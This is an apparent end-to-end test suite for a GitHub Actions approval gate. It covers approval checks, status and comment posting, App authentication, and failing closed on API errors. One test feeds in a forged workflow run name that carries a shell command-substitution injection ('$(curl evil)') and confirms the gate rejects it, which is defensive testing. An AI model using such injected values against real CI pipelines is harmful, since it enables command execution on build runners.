import { generateKeyPairSync } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { STICKY_MARKER } from '../../src/core/ports/review-platform.ts';
import { makeReview } from '../helpers/github-fixtures.ts';
import { INSTALLATION_TOKEN } from '../helpers/github-server.ts';
import {
  AUTHOR,
  createGateFixture,
  git,
  NUMBER,
  pullRequestTargetEvent,
  REPOSITORY,
  runGateScript,
  workflowRunEvent,
  type GateFixture,
} from '../helpers/gate-fixture.ts';
import { HISTORY_DOCUMENTS } from '../helpers/history-fixture.ts';

const REQUIREMENT = 'content/requirements/REQ-0001.md';
/** The history fixture, made valid for the base's schemas: the gate validates the head too. */
const DOCUMENTS = patch(HISTORY_DOCUMENTS, {
  [REQUIREMENT]: [
    'opinion: 可行 }\n',
    'opinion: 可行 }\n  effort_days: 3\n  schedule: { start: 2026-03-23, release: 2026-05-08 }\n',
  ],
  'content/changes/CR-0001.md': ['schedule_days: 1 }', 'schedule_days: 1, risk: 低 }'],
  'content/releases/REL-001.md': ['status: released', 'status: planned'],
});
const EDITED = (DOCUMENTS[REQUIREMENT] ?? '').replace(
  'title: 库存预警',
  'title: 库存预警与补货提醒',
);

function patch(
  documents: Readonly<Record<string, string>>,
  edits: Readonly<Record<string, [string, string]>>,
): Record<string, string> {
  const result = { ...documents };
  for (const [path, [from, to]] of Object.entries(edits)) {
    const text = result[path] ?? '';
    if (!text.includes(from)) throw new Error(`fixture drifted: ${path} lacks ${from}`);
    result[path] = text.replace(from, to);
  }
  return result;
}

let fixture: GateFixture;
afterEach(async () => {
  expect(fixture.server.violations).toEqual([]);
  await fixture.cleanup();
});

async function setUp(reviews: { login: string; state: string; onHead?: boolean }[]) {
  fixture = await createGateFixture(DOCUMENTS, { [REQUIREMENT]: EDITED });
  fixture.server.reviews.set(
    NUMBER,
    reviews.map((review, index) =>
      makeReview(REPOSITORY, NUMBER, {
        id: index + 1,
        login: review.login,
        state: review.state,
        commitId: review.onHead === false ? fixture.baseSha : fixture.headSha,
      }),
    ),
  );
}

const statesPosted = () =>
  fixture.server.statuses.map((status) => `${status.sha.slice(0, 7)} ${status.state}`);

describe('the gate entry point, end to end', () => {
  it('passes an approved pull request on pull_request_target and reports everywhere', async () => {
    await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
    const result = await runGateScript(
      fixture,
      'pull_request_target',
      pullRequestTargetEvent(fixture),
    );
    expect(result.status).toBe(0);
    const head = fixture.headSha.slice(0, 7);
    expect(statesPosted()).toEqual([`${head} pending`, `${head} success`]);
    expect(fixture.server.statuses.every((status) => status.context === 'docket/approvals')).toBe(
      true,
    );
    const comments = fixture.server.comments.get(NUMBER) ?? [];
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body.startsWith(STICKY_MARKER)).toBe(true);
    for (const report of [result.summary, comments[0]?.body ?? '']) {
      expect(report).toContain('May merge: all 1 changed items have their approvals');
      expect(report).toContain('Approved by 赵磊 (Project manager)');
      expect(report).toContain('merging makes that sign-off lapse');
    }
    expect(fixture.server.statuses.at(-1)?.description).toBe(
      'May merge: all 1 changed items have their approvals',
    );
    expect(result.output).toContain('verdict=pass');
    expect(
      fixture.server.requests.every((request) => request.authorization === 'token ghs_test'),
    ).toBe(true);
  });

  it('posts as the Docket App when its credentials are set, so the status has that source', async () => {
    await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
    const { publicKey, privateKey } = generateKeyPairSync('rsa', {
      modulusLength: 2048,
      publicKeyEncoding: { type: 'spki', format: 'pem' },
      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
    });
    fixture.server.app.publicKey = publicKey;
    const appEnv = {
      DOCKET_APP_ID: '321',
      DOCKET_APP_INSTALLATION_ID: '55',
      DOCKET_APP_PRIVATE_KEY: privateKey,
    };
    const result = await runGateScript(
      fixture,
      'pull_request_target',
      pullRequestTargetEvent(fixture),
      appEnv,
    );
    expect(result.status).toBe(0);
    const posts = fixture.server.requests.filter(
      (request) => request.operation === 'repos/create-commit-status',
    );
    expect(posts.map((request) => request.authorization)).toEqual([
      `token ${INSTALLATION_TOKEN}`,
      `token ${INSTALLATION_TOKEN}`,
    ]);
    expect(fixture.server.statuses.at(-1)?.state).toBe('success');
  });

  it('never checks the head out: the workspace stays on the base, the head only as objects', async () => {
    await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
    await runGateScript(fixture, 'pull_request_target', pullRequestTargetEvent(fixture));
    expect(git(fixture.workspace, ['rev-parse', 'HEAD'])).toBe(fixture.baseSha);
    expect(git(fixture.workspace, ['status', '--porcelain'])).toBe('');
    expect(readFileSync(join(fixture.workspace, REQUIREMENT), 'utf8')).toBe(DOCUMENTS[REQUIREMENT]);
    expect(git(fixture.workspace, ['cat-file', '-t', fixture.headSha])).toBe('commit');
  });

  it('fails a pull request whose only approval is the author’s, with an annotation', async () => {
    await setUp([{ login: AUTHOR, state: 'APPROVED' }]);
    const result = await runGateScript(
      fixture,
      'pull_request_target',
      pullRequestTargetEvent(fixture, 'opened'),
    );
    expect(result.status).toBe(0);
    expect(fixture.server.statuses.at(-1)?.state).toBe('failure');
    expect(result.stdout).toMatch(
      /^::error file=content\/requirements\/REQ-0001.md,.*0 of 1 required approvals/m,
    );
    expect(result.summary).toContain("The author wangfang-yf's own review does not count");
    expect(fixture.server.statuses.at(-1)?.description).toMatch(/^May not merge: 1 changed item/);
    expect(result.output).toContain('verdict=fail');
  });

  it('re-checks on a relayed review, trusting only the number: the PR comes from the API', async () => {
    await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
    const result = await runGateScript(fixture, 'workflow_run', workflowRunEvent(fixture));
    expect(result.status).toBe(0);
    expect(fixture.server.requests[0]?.operation).toBe('pulls/get');
    expect(fixture.server.statuses.at(-1)).toMatchObject({
      sha: fixture.headSha,
      state: 'success',
    });
    await runGateScript(fixture, 'workflow_run', workflowRunEvent(fixture));
    expect(fixture.server.comments.get(NUMBER)).toHaveLength(1);
  });

  it('refuses a relay whose run name carries anything but a number', async () => {
    await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
    const forged = workflowRunEvent(fixture, 'docket review relay pr=7 $(curl evil)');
    const result = await runGateScript(fixture, 'workflow_run', forged);
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('workflow_run.display_title');
    expect(fixture.server.requests).toEqual([]);
  });

  it.each([
    ['a 502', { kind: 'status', status: 502 } as const, 'server error 502'],
    [
      'a 403 rate limit',
      { kind: 'rate-limit' } as const,
      'rate limit reached (resets 2026-11-18T11:06:40.000Z)',
    ],
    ['a timeout', { kind: 'stall' } as const, 'did not answer within 2 s'],
  ])(
    'fails closed on %s while reading reviews: a failing status says why',
    async (_name, fault, why) => {
      await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
      fixture.server.faults.set('pulls/list-reviews', fault);
      const result = await runGateScript(
        fixture,
        'pull_request_target',
        pullRequestTargetEvent(fixture),
      );
      expect(result.status).toBe(1);
      const last = fixture.server.statuses.at(-1);
      expect(last).toMatchObject({ sha: fixture.headSha, state: 'failure' });
      expect(last?.description).toContain(why);
      expect(fixture.server.statuses.some((status) => status.state === 'success')).toBe(false);
      expect(result.stdout).toContain(
        `::error title=docket/approvals::Approval check not completed`,
      );
      expect(result.summary).toContain(why);
      expect(result.output).toContain('outcome=failed-closed');
    },
  );

  it('fails closed on the head SHA of the event when the pull request cannot be read', async () => {
    await setUp([]);
    fixture.server.faults.set('pulls/get', { kind: 'status', status: 503 });
    const result = await runGateScript(
      fixture,
      'pull_request_target',
      pullRequestTargetEvent(fixture),
    );
    expect(result.status).toBe(1);
    expect(fixture.server.statuses).toEqual([
      expect.objectContaining({
        sha: fixture.headSha,
        state: 'failure',
        description: expect.stringContaining('503') as string,
      }),
    ]);
  });

  it('checks a merge group and posts on the group’s commit', async () => {
    await setUp([{ login: 'zhaolei-yf', state: 'APPROVED' }]);
    const groupSha = 'e'.repeat(40);
    const event = {
      action: 'checks_requested',
      merge_group: {
        head_sha: groupSha,
        head_ref: `refs/heads/gh-readonly-queue/main/pr-${NUMBER}-${fixture.headSha}`,
        base_sha: fixture.baseSha,
        base_ref: 'refs/heads/main',
      },
    };
    const result = await runGateScript(fixture, 'merge_group', event);
    expect(result.status).toBe(0);
    expect(statesPosted()).toEqual([`eeeeeee pending`, `eeeeeee success`]);
    expect(fixture.server.comments.get(NUMBER)).toBeUndefined();
  });

  it('leaves events it does not act on alone', async () => {
    await setUp([]);
    const result = await runGateScript(
      fixture,
      'pull_request_target',
      pullRequestTargetEvent(fixture, 'labeled'),
    );
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('does not act on `pull_request_target` (`labeled`)');
    expect(fixture.server.requests).toEqual([]);
  });
});
